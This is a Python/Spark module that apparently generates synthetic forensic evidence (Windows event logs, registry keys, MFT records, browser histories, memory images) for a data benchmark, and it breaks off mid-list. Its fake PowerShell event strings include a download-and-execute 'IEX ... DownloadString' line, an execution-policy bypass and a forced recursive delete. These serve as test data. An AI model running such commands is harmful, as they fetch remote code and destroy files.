"""Evidence tables derived from the driver's tables.

Each function builds one evidence table with Spark expressions over whole driver
tables; ``VIEWS`` holds the same derivation, or the values it encodes, as SQL for the
cross-check. Nothing here is sampled or cut: rows grow with the tables.
"""

from __future__ import annotations

import re
import uuid

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from evidlake.catalogs import lookups as L
from evidlake.functions.times import MICROS_1601_TO_1970, SECONDS_1970_TO_2001
from evidlake.operators.joins import plan_bytes
from evidlake.operators.registry import rot13
from evidlake.session import ensure_checkpoint_dir

BASE = "TIMESTAMP '2024-01-01 00:00:00'"
BASE_MICROS = 1_704_067_200_000_000
SPLIT = 128 * 1024 * 1024
#: Tasks per core for captured outputs, of which a customer has fifteen.
OUTPUT_TASKS = 8


def load(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    return spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet")


def spread(df: DataFrame, per_core: int = 1) -> DataFrame:
    """Use all cores for a costly scan of an input too small to split.

    Below one normal split per core the rows are dealt out once, to ``per_core`` tasks for
    each core; larger inputs already have a split for every core and are left alone.
    """
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df.repartition(cores * per_core) if plan_bytes(df) < cores * SPLIT else df


def minutes_after_base(n: Column) -> Column:
    return F.timestamp_micros(F.lit(BASE_MICROS) + n * 60_000_000)


def text_of(*parts) -> Column:
    return F.concat(*[F.lit(p) if isinstance(p, str) else p.cast("string") for p in parts])


def choose(number: Column, values: list[str]) -> Column:
    """One of the values, by the number."""
    return F.get(F.array(*[F.lit(v) for v in values]), F.pmod(number, F.lit(len(values))).cast("int"))


def hex_of(text: Column) -> Column:
    return F.hex(F.encode(text, "UTF-8"))


def hex_utf16(text: Column) -> Column:
    return F.hex(F.encode(text, "UTF-16LE"))


def hex_le(number: Column, size: int) -> Column:
    """Little-endian hex of a non-negative number."""
    wide = F.lpad(F.hex(number.cast("bigint")), size * 2, "0")
    return F.concat(*[F.substring(wide, size * 2 - 1 - 2 * i, 2) for i in range(size)])


# -- texts ---------------------------------------------------------------------------

VIEWS: dict[str, str] = {}

VIEWS["texts"] = """
SELECT '/evidence/' || source || '/' || lang || '/' || doc_id || '.txt' AS path,
       source AS label, n_chars AS size,
       TIMESTAMP '2024-01-01 00:00:00' + to_minutes(doc_id) AS mtime, text
FROM documents
UNION ALL
SELECT '/evidence/pages/' || page_id || '.html', 'pages', length(html),
       TIMESTAMP '2024-01-01 00:00:00' + to_minutes(page_id), html
FROM pages"""


def texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = load(spark, sf_dir, "documents").select(
        text_of("/evidence/", F.col("source"), "/", F.col("lang"), "/", F.col("doc_id"), ".txt").alias("path"),
        F.col("source").alias("label"),
        F.col("n_chars").alias("size"),
        minutes_after_base(F.col("doc_id")).alias("mtime"),
        "text",
    )
    pages = load(spark, sf_dir, "pages").select(
        text_of("/evidence/pages/", F.col("page_id"), ".html").alias("path"),
        F.lit("pages").alias("label"),
        F.length("html").cast("long").alias("size"),
        minutes_after_base(F.col("page_id")).alias("mtime"),
        F.col("html").alias("text"),
    )
    return spread(docs.unionByName(pages))


VIEWS["turns"] = """
SELECT '/chats/' || conv_id || '/' || turn || '_' || role || '.txt' AS path,
       CAST(conv_id AS VARCHAR) AS label, length(text) AS size, text
FROM conversations"""


def turns(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spread(
        load(spark, sf_dir, "conversations").select(
            text_of("/chats/", F.col("conv_id"), "/", F.col("turn"), "_", F.col("role"), ".txt").alias("path"),
            F.col("conv_id").cast("string").alias("label"),
            F.length("text").cast("long").alias("size"),
            "text",
        )
    )


# -- files ---------------------------------------------------------------------------

FOLDERS = ["Documents", "Downloads", "AppData/Local", "Desktop", "tmp", "work", ".cache"]
SUFFIXES = [".txt", ".exe", ".pdf", ".sh", ".py", ".docx", ".js", ".md", ".dll", ".csv", ".jar"]

VIEWS["files"] = f"""
SELECT doc_id, source AS root,
       '/home/' || source || '/' || {FOLDERS!r}[CAST(doc_id % 7 AS INT) + 1] || '/file_' || doc_id
         || {SUFFIXES!r}[CAST(doc_id % 11 AS INT) + 1] AS path,
       text, strlen(text) AS size
FROM documents"""


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files with content: the documents under user folders with many suffixes."""
    doc = F.col("doc_id")
    return spread(load(spark, sf_dir, "documents")).select(
        "doc_id",
        F.col("source").alias("root"),
        text_of("/home/", F.col("source"), "/", choose(doc, FOLDERS), "/file_", doc, choose(doc, SUFFIXES)).alias("path"),
        F.encode("text", "UTF-8").alias("content"),
    )


ENCRYPTED_SUFFIXES = [
    ".zip", ".zip", ".7z", ".7z", ".pdf", ".pdf", ".docx", ".docx", ".hc", ".kdbx", ".txt",
    ".rar", ".ZIP",
]
PDF_PAD = 1100

VIEWS["sealed"] = f"""
SELECT doc_id, doc_id % 13 AS kind,
       CASE WHEN doc_id % 17 = 0 THEN '/usr/share' ELSE '/home/' || source END
         || '/sealed_' || doc_id || {ENCRYPTED_SUFFIXES!r}[CAST(doc_id % 13 AS INT) + 1] AS path,
       strlen(text) AS text_bytes
FROM documents"""


def sealed(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files whose leading bytes are those of protected and plain containers.

    In order of doc_id % 13: a ZIP with and without the encryption flag, 7-Zip with and
    without its signature, PDF with the mark near the front and far back, an Office
    file with and without an encryption member, VeraCrypt, KeePass, text, RAR, and a
    ZIP with an upper-case suffix.
    """
    doc = F.col("doc_id")
    zero = lambda n: F.lit("00" * n)
    zip_head = lambda flag: F.concat(F.lit("504B03041400" + flag), zero(22))
    member = F.concat(F.lit("504B0102"), zero(24), F.lit("0E00"), zero(16), hex_of(F.lit("EncryptionInfo")))
    heads = [
        zip_head("0100"), zip_head("0000"),
        F.lit("377ABCAF271C0004"), F.lit("000000000000"),
        hex_of(F.lit("%PDF-1.7 /Encrypt 5 0 R ")),
        F.concat(hex_of(F.lit("%PDF-1.7 ")), zero(PDF_PAD), hex_of(F.lit("/Encrypt"))),
        F.concat(F.lit("504B0304"), zero(26), member),
        F.concat(F.lit("504B0304"), zero(26), hex_of(F.lit("EncryptionInfo"))),
        zero(8), F.lit("03D9A29A67FB4BB5"), F.lit(""), F.lit("526172211A0700"),
        zip_head("0100"),
    ]
    head = F.get(F.array(*heads), F.pmod(doc, F.lit(13)).cast("int"))
    place = F.when(F.pmod(doc, F.lit(17)) == 0, F.lit("/usr/share")).otherwise(
        F.concat(F.lit("/home/"), F.col("source"))
    )
    rows = spread(load(spark, sf_dir, "documents")).select(
        "doc_id",
        text_of(place, "/sealed_", doc, choose(doc, ENCRYPTED_SUFFIXES)).alias("path"),
        F.unhex(F.concat(head, hex_of(F.col("text")))).alias("content"),
    )
    return rows.withColumn("size", F.octet_length("content").cast("long"))


# -- browser history -------------------------------------------------------------------

VIEWS["visits"] = """
SELECT page_id, url, page_id % 17 + 1 AS visit_count,
       ['chrome','firefox','safari'][CAST(page_id % 3 AS INT) + 1] AS browser,
       CASE WHEN page_id % 5 = 0 THEN NULL ELSE regexp_extract(html, '<title>([^<]*)', 1) END AS title,
       page_id % 4 AS typed,
       TIMESTAMP '2024-01-01 00:00:00' + to_hours(page_id * 7) AS last_visit
FROM pages"""


def _pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    page = F.col("page_id")
    return load(spark, sf_dir, "pages").select(
        "page_id", "url",
        (F.pmod(page, F.lit(17)) + 1).alias("visit_count"),
        F.pmod(page, F.lit(3)).alias("b"),
        F.when(F.pmod(page, F.lit(5)) != 0, F.regexp_extract("html", "<title>([^<]*)", 1)).alias("title"),
        F.pmod(page, F.lit(4)).alias("typed"),
        (F.lit(BASE_MICROS) + page * 7 * 3_600_000_000).alias("micros"),
    )


def chromium_urls(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _pages(spark, sf_dir).filter("b = 0").select(
        F.lit("chrome").alias("browser"), "url", "title", "visit_count",
        F.col("typed").alias("typed_count"),
        (F.col("micros") + MICROS_1601_TO_1970).alias("last_visit_time"),
        F.lit(0).alias("hidden"),
    )


def firefox_places(spark: SparkSession, sf_dir: str, visit_types: bool = False) -> DataFrame:
    kind = F.pmod(F.col("page_id"), F.lit(12))
    return _pages(spark, sf_dir).filter("b = 1").select(
        "url", "title", "visit_count", "typed",
        F.col("micros").alias("last_visit_date"), F.lit(0).alias("hidden"),
        *([F.when(kind != 11, kind).alias("visit_type")] if visit_types else []),
    )


def safari_tables(spark: SparkSession, sf_dir: str) -> tuple[DataFrame, DataFrame]:
    rows = _pages(spark, sf_dir).filter("b = 2")
    items = rows.select(
        F.col("page_id").alias("id"), "url", F.lit("site").alias("domain_expansion"), "visit_count"
    )
    visits = rows.select(
        F.col("page_id").alias("history_item"),
        (F.col("micros") / 1_000_000 - SECONDS_1970_TO_2001).alias("visit_time"),
        "title",
    )
    return items, visits


# -- events ------------------------------------------------------------------------------

SCRIPTS = [
    "Get-ChildItem C:\\Users",
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "powershell -ExecutionPolicy Bypass",
    "Start-Process notepad",
    "Remove-Item C:\\x -Recurse -Force",
]
SERVICE_PATHS = [
    "C:\\Windows\\System32\\svc.exe", "C:\\Users\\x\\AppData\\b.exe",
    "C:\\Program Files\\v\\v.exe", "C:\\ProgramData\\k.exe",
]


def _sql_list(values: list[str]) -> str:
    return "[" + ", ".join("'" + v.replace("'", "''") + "'" for v in values) + "]"


VIEWS["win_events"] = f"""
SELECT *, CASE WHEN id IN (4104) THEN 'powershell'
               WHEN id IN (7045, 20001, 20003, 6416) THEN 'system' ELSE 'security' END AS log,
       'user' || user_id AS username,
       {_sql_list(SCRIPTS)}[CAST(k % 5 AS INT) + 1] AS script,
       {_sql_list(SERVICE_PATHS)}[CAST(k % 4 AS INT) + 1] AS service_path
FROM (
  SELECT event_id AS record, ts, user_id, k,
         CASE event_type
           WHEN 'view' THEN CASE WHEN k < 80 THEN 4624 WHEN k < 85 THEN 1149 WHEN k < 90 THEN 21 ELSE 24 END
           WHEN 'error' THEN 4625
           WHEN 'click' THEN CASE WHEN k < 50 THEN 4672 ELSE 4104 END
           WHEN 'signup' THEN CASE WHEN k < 50 THEN 4720 ELSE 4732 END
           ELSE CASE WHEN k < 60 THEN 7045 WHEN k < 75 THEN 20001 WHEN k < 90 THEN 20003 ELSE 6416 END
         END AS id
  FROM (SELECT *, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events)
)"""


def as_win_events(events: DataFrame) -> DataFrame:
    """Driver events as Windows events; works on a table and on a stream."""
    k, kind = F.get_json_object("props", "$.k").cast("bigint"), F.col("event_type")
    event_id = (
        F.when(kind == "view", F.when(k < 80, 4624).when(k < 85, 1149).when(k < 90, 21).otherwise(24))
        .when(kind == "error", 4625)
        .when(kind == "click", F.when(k < 50, 4672).otherwise(4104))
        .when(kind == "signup", F.when(k < 50, 4720).otherwise(4732))
        .otherwise(F.when(k < 60, 7045).when(k < 75, 20001).when(k < 90, 20003).otherwise(6416))
    )
    user = text_of("user", F.col("user_id"))
    eid = F.col("id")
    strings = (
        F.when(eid == 4104, F.array(choose(F.col("k"), SCRIPTS), F.lit("")))
        .when(eid == 7045, F.array(text_of("svc", F.col("user_id")), choose(F.col("k"), SERVICE_PATHS)))
        .when(eid.isin(20001, 20003, 6416), F.array(text_of("usb", F.col("user_id"))))
        .when(eid.isin(1149, 21, 24), F.array(F.lit("d"), user, text_of("10.0.0.", F.col("k"))))
        .otherwise(F.array(F.lit("S-1"), user, F.lit("D"), F.lit("0x1"), F.lit("-"), user))
    )
    log = (
        F.when(eid == 4104, "powershell")
        .when(eid.isin(7045, 20001, 20003, 6416), "system")
        .otherwise("security")
    )
    rows = events.select(
        F.col("event_id").alias("record"), "ts", "user_id", k.alias("k"), event_id.alias("id")
    )
    return rows.select(
        "record", text_of("host", F.col("user_id")).alias("host"), log.alias("log"), "ts",
        # The raw id carries qualifier bits above the low 16.
        eid.bitwiseOR(F.lit(0x40000000)).alias("event_id"),
        strings.alias("strings"),
    )


def win_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return as_win_events(spread(load(spark, sf_dir, "events")))


# -- registry ------------------------------------------------------------------------------


def registry_values(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Values of nine families from customers, suppliers, parts, pages and documents."""
    none, no_data = F.lit(None).cast("string"), F.lit(None).cast("binary")

    def value(hive, key, name, text=none, data=no_data, kind=1):
        return F.struct(
            F.lit(hive).alias("hive"), key.alias("key_path"), name.alias("value_name"),
            F.lit(kind).alias("value_type"), text.alias("value_text"), data.alias("value_data"),
        )

    def emit(df, host, *values):
        return df.select(text_of("host", host).alias("host"), F.inline(F.array(*values)))

    cust = load(spark, sf_dir, "customer")
    ck = F.col("c_custkey")
    ticks = (F.lit(BASE_MICROS + MICROS_1601_TO_1970) + ck * 60_000_000) * 10
    blob = F.unhex(
        F.concat(F.lit("00000000"), hex_le(F.pmod(ck, F.lit(300)), 4), F.lit("00" * 52), hex_le(ticks, 8), F.lit("00000000"))
    )
    short = F.unhex(F.concat(F.lit("00000000"), hex_le(F.pmod(ck, F.lit(300)), 4)))
    out = emit(
        cust, F.col("c_nationkey"),
        value("HKCU", text_of(L.USERASSIST_KEY, "\\{G", F.col("c_nationkey"), "}\\Count"),
              rot13(text_of("C:\\Apps\\", F.col("c_name"), ".exe")),
              data=F.when(F.pmod(ck, F.lit(10)) == 0, short).otherwise(blob), kind=3),
        value("HKLM", text_of(L.NETWORK_PROFILES_KEY, "\\{P", ck, "}"), F.lit("ProfileName"),
              F.when(F.pmod(ck, F.lit(9)) != 0, F.col("c_name"))),
        value("HKLM", text_of(L.NETWORK_PROFILES_KEY, "\\{P", ck, "}"), F.lit("Description"), F.col("c_mktsegment")),
        value("HKLM", text_of(L.NETWORK_PROFILES_KEY, "\\{P", ck, "}"), F.lit("Managed"), F.pmod(ck, F.lit(2)).cast("string")),
    )
    supp = load(spark, sf_dir, "supplier")
    sk = F.col("s_suppkey")
    run_key = choose(sk, [path for _, path in L.RUN_KEYS])
    hive = F.when(F.pmod(sk, F.lit(4)) < 2, "HKLM").otherwise("HKCU")
    out = out.unionByName(
        supp.select(
            text_of("host", F.col("s_nationkey")).alias("host"), hive.alias("hive"),
            run_key.alias("key_path"), F.col("s_name").alias("value_name"), F.lit(1).alias("value_type"),
            text_of("C:\\run\\", sk, ".exe").alias("value_text"), no_data.alias("value_data"),
        )
    )
    part = load(spark, sf_dir, "part")
    pk, size = F.col("p_partkey"), F.col("p_size")
    usb = text_of(L.USBSTOR_KEY, "\\Disk&Ven_", F.col("p_brand"), "\\SN", pk)
    program = text_of(L.UNINSTALL_KEYS[0][1], "\\{U", pk, "}")
    service = text_of(L.SERVICES_KEY, "\\Svc", pk)
    when = lambda test, text: F.when(test, text)
    out = out.unionByName(
        emit(
            part, F.pmod(pk, F.lit(25)),
            value("HKLM", usb, F.lit("FriendlyName"), when(size % 4 != 0, F.col("p_name"))),
            value("HKLM", usb, F.lit("Service"), when(size % 3 != 0, F.lit("disk"))),
            value("HKLM", program, F.lit("DisplayName"), when(size % 10 != 0, F.col("p_name"))),
            value("HKLM", program, F.lit("Publisher"), F.col("p_brand")),
            value("HKLM", program, F.lit("DisplayVersion"), when(size % 5 != 0, size.cast("string"))),
            value("HKLM", service, F.lit("ImagePath"), when(size % 7 != 0, text_of("C:\\svc\\", pk, ".exe"))),
            value("HKLM", service, F.lit("DisplayName"), when(size % 3 != 0, F.col("p_type"))),
            value("HKLM", service, F.lit("Start"), when(size % 11 != 0, F.pmod(size, F.lit(6)).cast("string"))),
        )
    )
    docs = load(spark, sf_dir, "documents")
    doc = F.col("doc_id")
    wide = F.unhex(F.concat(hex_utf16(text_of("Bericht_", doc, "_", F.col("lang"), ".docx")), F.lit("0000")))
    out = out.unionByName(
        emit(
            docs, F.pmod(doc, F.lit(25)),
            value("HKCU", F.lit(L.RECENT_DOCS_KEY), doc.cast("string"), data=wide, kind=3),
            value("HKCU", choose(doc, L.MRU_KEYS), doc.cast("string"), data=wide, kind=3),
            value("HKCU", F.lit(L.MRU_KEYS[0]), F.lit("MRUListEx"), data=F.unhex(F.lit("00000000")), kind=3),
        )
    )
    pages = load(spark, sf_dir, "pages")
    page = F.col("page_id")
    return out.unionByName(
        emit(
            pages, F.pmod(page, F.lit(25)),
            value("HKCU", F.lit(L.TYPED_URLS_KEY), text_of("url", page),
                  F.when(F.pmod(page, F.lit(6)) != 0, F.col("url")).otherwise("")),
        )
    )


VIEWS["registry_userassist"] = """
SELECT 'host' || c_nationkey AS host, 'C:\\Apps\\' || c_name || '.exe' AS program,
       '{G' || c_nationkey || '}' AS guid, c_custkey % 300 AS run_count,
       CASE WHEN c_custkey % 10 <> 0
            THEN strftime(TIMESTAMP '2024-01-01 00:00:00' + to_minutes(c_custkey), '%Y-%m-%d %H:%M:%S')
            ELSE 'N/A' END AS last_executed
FROM customer"""
VIEWS["registry_run_keys"] = """
SELECT 'host' || s_nationkey AS host,
       ['HKLM Run', 'HKLM RunOnce', 'HKCU Run', 'HKCU RunOnce'][CAST(s_suppkey % 4 AS INT) + 1] AS location,
       s_name AS name, 'C:\\run\\' || s_suppkey || '.exe' AS command, 1 AS type
FROM supplier"""
VIEWS["registry_recent_docs"] = """
SELECT 'host' || (doc_id % 25) AS host, 'Bericht_' || doc_id || '_' || lang || '.docx' AS filename
FROM documents"""
VIEWS["registry_mru_lists"] = """
SELECT 'host' || (doc_id % 25) AS host, 'Bericht_' || doc_id || '_' || lang || '.docx' AS path,
       ['OpenSavePidlMRU', 'LastVisitedPidlMRU'][CAST(doc_id % 2 AS INT) + 1] AS type
FROM documents"""
VIEWS["registry_usb_devices"] = """
SELECT 'host' || (p_partkey % 25) AS host,
       CASE WHEN p_size % 4 <> 0 THEN p_name ELSE 'Disk&Ven_' || p_brand END AS device,
       'SN' || p_partkey AS serial, 'Disk&Ven_' || p_brand AS type,
       CASE WHEN p_size % 3 <> 0 THEN 'disk' ELSE '' END AS service
FROM part"""
VIEWS["registry_typed_urls"] = """
SELECT 'host' || (page_id % 25) AS host, url, 'url' || page_id AS position
FROM pages WHERE page_id % 6 <> 0"""
VIEWS["registry_installed_programs"] = """
SELECT 'host' || (p_partkey % 25) AS host, p_name AS name, p_brand AS publisher,
       CASE WHEN p_size % 5 <> 0 THEN CAST(p_size AS VARCHAR) ELSE '' END AS version,
       '' AS install_date, '{U' || p_partkey || '}' AS guid
FROM part WHERE p_size % 10 <> 0"""
VIEWS["registry_network_profiles"] = """
SELECT 'host' || c_nationkey AS host, c_name AS name, c_mktsegment AS description,
       CAST(c_custkey % 2 AS VARCHAR) AS managed, '{P' || c_custkey || '}' AS guid
FROM customer WHERE c_custkey % 9 <> 0"""
VIEWS["registry_services"] = """
SELECT 'host' || (p_partkey % 25) AS host, 'Svc' || p_partkey AS name,
       CASE WHEN p_size % 3 <> 0 THEN p_type ELSE 'Svc' || p_partkey END AS display_name,
       'C:\\svc\\' || p_partkey || '.exe' AS image_path,
       CASE WHEN p_size % 11 = 0 THEN ''
            ELSE ['Boot','System','Automatic','Manual','Disabled','Unknown'][CAST(p_size % 6 AS INT) + 1]
       END AS start_type
FROM part WHERE p_size % 7 <> 0"""


# -- file-system records ---------------------------------------------------------------------

NAMES = ["report", "temp", "cache", "photo", "tmp_data", "$Recycle", "notes"]

VIEWS["mft"] = f"""
SELECT 'C:' AS volume, p_partkey + 6 AS entry_number,
       CASE WHEN p_partkey <= 10 THEN 5 WHEN p_partkey % 97 = 0 THEN 1000000000
            ELSE p_partkey // 3 + 6 END AS parent_reference,
       {_sql_list(NAMES)}[CAST(p_partkey % 7 AS INT) + 1] || '_' || p_partkey AS filename,
       p_size % 2 = 0 AS is_deleted, p_size % 5 = 0 AS is_directory, p_size < 10 AS is_resident,
       p_size % 7 <> 0 AS has_runs, CASE WHEN p_size % 11 = 0 THEN 1 ELSE 0 END AS n_ads,
       CAST(p_size AS BIGINT) * 1000000 AS logical_size, p_partkey, p_size,
       CASE WHEN p_size % 13 = 0 THEN NULL ELSE o_orderdate END AS si_modified,
       o_orderdate AS si_created,
       CASE WHEN p_size % 6 = 0 THEN o_orderdate + INTERVAL 2 SECOND
            ELSE o_orderdate + INTERVAL 1 SECOND END AS fn_created
FROM part LEFT JOIN orders ON o_orderkey = p_partkey
UNION ALL
SELECT 'C:', 5, 5, '.', false, true, false, false, 0, 0, 0, 0, NULL, NULL, NULL"""


def mft_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """File records from parts (a tree by integer division) and order dates."""
    part, orders = load(spark, sf_dir, "part"), load(spark, sf_dir, "orders")
    pk, size = F.col("p_partkey"), F.col("p_size")
    parent = (
        F.when(pk <= 10, 5).when(pk % 97 == 0, 1_000_000_000)
        .otherwise(F.call_function("div", pk, F.lit(3)) + 6)
    ).cast("bigint")
    day = F.col("o_orderdate").cast("timestamp")
    later = F.when(size % 6 == 0, day + F.expr("INTERVAL 2 SECOND")).otherwise(day + F.expr("INTERVAL 1 SECOND"))
    runs = F.array(
        F.struct((pk * 10).alias("start"), size.cast("bigint").alias("n")),
        F.struct((pk * 10 + 5000).alias("start"), F.lit(3).cast("bigint").alias("n")),
    )
    no_runs = F.array().cast("array<struct<start:bigint,n:bigint>>")
    rows = part.join(orders, F.col("o_orderkey") == pk, "left").select(
        F.lit("C:").alias("volume"),
        (pk + 6).alias("entry_number"),
        F.lit(1).alias("sequence_number"),
        (size % 5 == 0).alias("is_directory"),
        (size % 2 == 0).alias("is_deleted"),
        day.alias("si_created"),
        F.when(size % 13 != 0, day).alias("si_modified"),
        day.alias("si_accessed"),
        day.alias("si_mft_modified"),
        later.alias("fn_created"),
        F.lit(None).cast("timestamp").alias("fn_modified"),
        text_of(choose(pk, NAMES), "_", pk).alias("filename"),
        parent.alias("parent_reference"),
        F.lit(1).alias("parent_sequence"),
        (size.cast("bigint") * 1_000_000).alias("logical_size"),
        (size.cast("bigint") * 4096).alias("physical_size"),
        (size < 10).alias("is_resident"),
        F.when(size % 7 != 0, runs).otherwise(no_runs).alias("data_runs"),
        F.when(size % 11 == 0, F.array(text_of("stream", size))).otherwise(
            F.array().cast("array<string>")
        ).alias("ads_streams"),
    )
    # Every volume has its root record; it is one row, so it is a literal.
    root = spark.range(1).select(
        *[
            {"volume": F.lit("C:"), "entry_number": F.lit(5), "parent_reference": F.lit(5),
             "filename": F.lit("."), "is_directory": F.lit(True), "is_deleted": F.lit(False),
             "is_resident": F.lit(False), "logical_size": F.lit(0), "physical_size": F.lit(0),
             "data_runs": no_runs, "ads_streams": F.array().cast("array<string>"),
             "sequence_number": F.lit(1), "parent_sequence": F.lit(1)}
            .get(f.name, F.lit(None)).cast(f.dataType).alias(f.name)
            for f in rows.schema.fields
        ]
    )
    return rows.unionByName(root)


VIEWS["extents"] = """
SELECT 'C:' AS volume, p_partkey * 10 AS s, p_partkey * 10 + p_size % 10 AS e
FROM part WHERE p_size % 10 > 0"""


def allocated_extents(spark: SparkSession, sf_dir: str) -> DataFrame:
    pk, size = F.col("p_partkey"), F.col("p_size")
    return load(spark, sf_dir, "part").filter(size % 10 > 0).select(
        F.lit("C:").alias("volume"), (pk * 10).alias("start"), (pk * 10 + size % 10).alias("end_excl")
    )


VIEWS["recovery_files"] = """
SELECT l_orderkey AS file_id, list({'s': l_partkey * 10, 'n': l_linenumber}) AS runs,
       bool_or(l_linenumber = 7 AND l_quantity < 10) AS is_resident
FROM lineitem GROUP BY l_orderkey"""


def recovery_files(spark: SparkSession, sf_dir: str) -> tuple[DataFrame, DataFrame]:
    """Deleted files and their runs from orders and their lines, the runs as rows."""
    lines = load(spark, sf_dir, "lineitem")
    resident = (F.col("l_linenumber") == 7) & (F.col("l_quantity") < 10)
    found = lines.groupBy(F.col("l_orderkey").alias("file_id")).agg(
        F.bool_or(resident).alias("is_resident")
    )
    runs = lines.select(
        F.lit("C:").alias("volume"),
        F.col("l_orderkey").alias("file_id"),
        F.xxhash64("l_partkey", "l_suppkey", "l_linenumber").alias("run"),
        (F.col("l_partkey") * 10).alias("start"),
        F.col("l_linenumber").cast("bigint").alias("n"),
    )
    files = found.select(F.lit("C:").alias("volume"), "file_id", "is_resident", F.lit(True).alias("has_runs"))
    return files, runs


def raw_mft(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same records as 1024-byte blocks, with update sequence and attributes."""
    rec = spread(mft_records(spark, sf_dir).filter(F.col("entry_number") != 5))
    zero = lambda n: F.lit("00" * n)
    ticks = lambda c: F.when(
        F.col(c).isNull(), zero(8)
    ).otherwise(hex_le((F.unix_micros(c) + MICROS_1601_TO_1970) * 10, 8))
    flags = F.when(F.col("is_deleted"), 0).otherwise(1) + F.when(F.col("is_directory"), 2).otherwise(0)
    header = F.concat(
        F.lit("46494C4530000300"), zero(8), hex_le(F.col("sequence_number"), 2), F.lit("0100"),
        F.lit("3800"), hex_le(flags, 2), zero(24), F.lit("0100"), zero(4), zero(2),
    )
    std = F.concat(
        F.lit("1000000048000000"), F.lit("0000000000000000"), F.lit("3000000018000000"),
        ticks("si_created"), ticks("si_modified"), ticks("si_mft_modified"), ticks("si_accessed"), zero(16),
    )
    chars = F.length("filename")
    name_size = (chars * 2 + 66).cast("int")
    padded = (F.floor((name_size + 7) / 8) * 8).cast("int")
    parent = F.concat(hex_le(F.col("parent_reference"), 6), hex_le(F.col("parent_sequence"), 2))
    name = F.concat(
        F.lit("30000000"), hex_le(padded + 24, 4), zero(8), hex_le(name_size, 4), F.lit("18000000"),
        parent, ticks("fn_created"), zero(24), zero(8), hex_le(F.col("logical_size"), 8), zero(8),
        hex_le(chars, 1), F.lit("01"), hex_utf16(F.col("filename")),
        F.repeat(F.lit("00"), padded - name_size),
    )
    inside = F.concat(F.lit("8000000020000000"), zero(8), F.lit("0800000018000000"), hex_of(F.lit("payload!")))
    run = lambda start, n: F.concat(F.lit("44"), hex_le(n, 4), hex_le(start, 4))
    runs = F.when(
        F.size("data_runs") > 0,
        F.concat(
            run(F.col("data_runs")[0]["start"], F.col("data_runs")[0]["n"]),
            run(F.lit(5000), F.col("data_runs")[1]["n"]), zero(6),
        ),
    ).otherwise(zero(24))
    outside = F.concat(
        F.lit("800000005800000001"), zero(7), zero(16), F.lit("4000"), zero(6),
        hex_le(F.col("physical_size"), 8), zero(16), runs,
    )
    data = F.when(F.col("is_resident"), inside).otherwise(outside)
    stream = F.get("ads_streams", F.lit(0))
    name_chars = F.length(stream)
    ads = F.when(
        stream.isNotNull(),
        F.concat(
            F.lit("8000000038000000"), F.lit("00"), hex_le(name_chars, 1), F.lit("1800"), zero(4),
            F.lit("0000000030000000"), hex_utf16(stream), F.repeat(F.lit("00"), 32 - name_chars * 2),
        ),
    ).otherwise("")
    body = F.concat(header, std, name, data, ads, F.lit("FFFFFFFF"))
    full = F.rpad(body, 2048, "0")
    fixed = F.concat(F.substring(full, 1, 1020), F.lit("0100"), F.substring(full, 1025, 1020), F.lit("0100"))
    return rec.select("volume", "entry_number", F.unhex(fixed).alias("record"))


# -- images ----------------------------------------------------------------------------------

VIEWS["image_texts"] = (
    r"SELECT page_id, html, url, 'C:\Users\u' || (page_id % 7) || '\mail@example.com.txt' AS place FROM pages"
)


def images(spark: SparkSession, sf_dir: str, chunk_bytes: int = 4096) -> DataFrame:
    """Each page as a small memory image: its text, NULs, then its address and a path in UTF-16."""
    from evidlake.sources.files import slice_images

    html = hex_of(F.col("html"))
    odd = F.when(F.length(html) % 4 != 0, "000000").otherwise("0000")
    place = text_of("C:\\Users\\u", F.col("page_id") % 7, "\\mail@example.com.txt")
    rows = load(spark, sf_dir, "pages").select(
        text_of("page_", F.col("page_id")).alias("image"),
        F.unhex(F.concat(
            html, odd, hex_utf16(F.col("url")), F.lit("0000"), hex_utf16(place), F.lit("0000")
        )).alias("content"),
    )
    return slice_images(spread(rows), chunk_bytes)


# -- stored files ----------------------------------------------------------------------------

PER_FILE = 250

# Every file holds the texts of 250 documents, a line end behind each.
VIEWS["stored"] = (
    f"SELECT doc_id // {PER_FILE} AS bucket, string_agg(coalesce(text, '') || chr(10), '' ORDER BY doc_id) AS content "
    "FROM documents GROUP BY 1"
)


def stored_texts(spark: SparkSession, sf_dir: str) -> str:
    """A folder with the documents' texts as plain files, written by Spark to the shared folder."""
    ensure_checkpoint_dir(spark)
    folder = f"{spark.sparkContext.getCheckpointDir()}/stored-{uuid.uuid4().hex}"
    rows = load(spark, sf_dir, "documents").select(
        F.call_function("div", F.col("doc_id"), F.lit(PER_FILE)).alias("bucket"), "doc_id",
        F.coalesce("text", F.lit("")).alias("value"),
    )
    rows = rows.repartition("bucket").sortWithinPartitions("bucket", "doc_id")
    rows.select("bucket", "value").write.partitionBy("bucket").text(folder)
    return folder


def bucket_of(path: Column) -> Column:
    """The bucket of a stored text; null for marks that Spark leaves beside them."""
    bucket = F.regexp_extract(path, r"bucket=(\d+)/part-[^/]*\.txt$", 1)
    return F.nullif(bucket, F.lit("")).cast("long")


# -- captured output ---------------------------------------------------------------------------


# Captured outputs of a customer: category, command and text. {k} is the customer's key, also
# padded to 8 or 10 places, {name} the name and {bal} the whole part of the balance.
CAPTURED = [
    ("system", "systeminfo", "\r\nHost Name:    {name}\r\nOS Version:  10.0.{k}\r\nEmpty:\r\n"),
    ("users", "net user", "User accounts for \\\\{name}\n\n-----\nadmin guest\nuser{k}\n"),
    ("users", "wmic useraccount list", "AccountType  Disabled  Name\n\n512  FALSE  u{k}\n512  TRUE  v{k}\n"),
    ("processes", "tasklist",
     "Image Name                     PID Session Name        Session#    Mem Usage\n"
     "========================= ======== ================ =========== ============\n"
